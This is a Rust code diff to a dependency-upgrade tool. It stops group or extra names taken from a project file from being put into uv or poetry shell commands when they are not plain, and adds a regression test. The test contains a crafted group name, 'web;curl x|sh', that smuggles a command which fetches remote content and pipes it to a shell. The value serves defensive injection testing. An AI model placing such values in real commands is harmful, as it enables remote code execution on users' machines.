@@ -64,11 +64,26 @@ pub fn steps(tool: &Tool, moves: &[Move], lockfile: &Path, input_file: Option<&P
     let mut steps = Vec::new();
     let mut upgrades: Vec<&Move> = Vec::new();
     for item in moves {
+        // A group or extra name that is not plain is not put in a command (it comes from the
+        // project's file): the constraint is then edited by hand.
+        let flag = item
+            .constraint
+            .as_ref()
+            .and_then(|constraint| section_flag(&constraint.section, "--optional", "--group"));
         match (&item.constraint, tool) {
+            (Some(constraint), Tool::Uv | Tool::Poetry) if flag.is_none() => {
+                steps.push(Step::Edit {
+                    location: constraint.location.clone(),
+                    from: constraint.requirement.clone(),
+                    to: format!("{}>={}", item.name, item.target),
+                    why: blocked_by(item, constraint),
+                });
+                upgrades.push(item);
+            }
             (Some(constraint), Tool::Uv) => steps.push(Step::Run {
                 command: format!(
                     "uv add{} '{}>={}'",
-                    section_flag(&constraint.section, "--optional", "--group"),
+                    flag.clone().unwrap_or_default(),
                     item.name,
                     item.target
                 ),
@@ -77,7 +92,7 @@ pub fn steps(tool: &Tool, moves: &[Move], lockfile: &Path, input_file: Option<&P
             (Some(constraint), Tool::Poetry) => steps.push(Step::Run {
                 command: format!(
                     "poetry add{}{} '{}@^{}'",
-                    section_flag(&constraint.section, "--optional", "--group"),
+                    flag.clone().unwrap_or_default(),
                     if item.prerelease {
                         " --allow-prereleases"
                     } else {
@@ -174,11 +189,13 @@ pub fn steps(tool: &Tool, moves: &[Move], lockfile: &Path, input_file: Option<&P
     steps
 }
 
-fn section_flag(section: &Section, optional: &str, group: &str) -> String {
+/// The flag that names the constraint's group or extra; `None` when the name is not plain.
+fn section_flag(section: &Section, optional: &str, group: &str) -> Option<String> {
+    let plain = |name: &str| safe_command(name).is_some_and(|safe| safe == name);
     match section {
-        Section::Main => String::new(),
-        Section::Optional(extra) => format!(" {optional} {extra}"),
-        Section::Group(name) => format!(" {group} {name}"),
+        Section::Main => Some(String::new()),
+        Section::Optional(extra) => plain(extra).then(|| format!(" {optional} {extra}")),
+        Section::Group(name) => plain(name).then(|| format!(" {group} {name}")),
     }
 }
 
@@ -326,6 +343,23 @@ mod tests {
             steps(&Tool::Poetry, &flask, lock, None)[0].command(),
             Some("poetry add --group web 'flask@^2.2.5'")
         );
+        let hostile = [item(
+            "flask",
+            "1.1.4",
+            "2.2.5",
+            Some(pin(
+                "flask = \"^1.1\"",
+                "^1.1",
+                Syntax::Poetry,
+                Section::Group("web;curl x|sh".into()),
+            )),
+        )];
+        let hostile_steps = steps(&Tool::Poetry, &hostile, lock, None);
+        assert_eq!(
+            hostile_steps[0].describe(),
+            "edit pyproject.toml:7: `flask = \"^1.1\"` -> `flask>=2.2.5`"
+        );
+        assert_eq!(hostile_steps[1].command(), Some("poetry update flask"));
         let compiled = steps(
             &Tool::PipCompile { command: None },
             &django,
